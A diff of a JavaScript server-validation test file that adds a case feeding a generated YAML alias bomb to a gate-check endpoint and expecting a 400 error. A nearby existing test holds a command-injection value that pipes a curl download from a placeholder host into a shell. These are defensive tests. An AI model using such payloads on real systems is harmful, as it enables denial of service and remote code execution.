@@ -72,6 +72,13 @@ describe('server validation matches the SDK', () => {
     assert.equal((await send(chunk(Object.fromEntries(Array.from({ length: LIMITS.scoresPerRecord }, (_, i) => [`s${i}`, i]))))).statusCode, 200)
   })
 
+  it('a YAML alias bomb in a gate file is 400 ASSAY_INVALID_GATE_SPEC', async () => {
+    const levels = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
+    for (let i = 1; i < 9; i++) levels.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`)
+    const text = `${levels.join('\n')}\n`
+    refused(await post('/api/v1/gate-checks', { gate: { source: 'bomb.yaml', text }, candidate: `run:${run.id}` }), 400, 'ASSAY_INVALID_GATE_SPEC', 'alias bomb')
+  })
+
   it('a run whose commit is shell or whose captured fields hold control characters is 400', async () => {
     const cases = [
       newRun({ code: { ...CODE, commit: 'HEAD; curl https://example.invalid/x | sh #' } }),
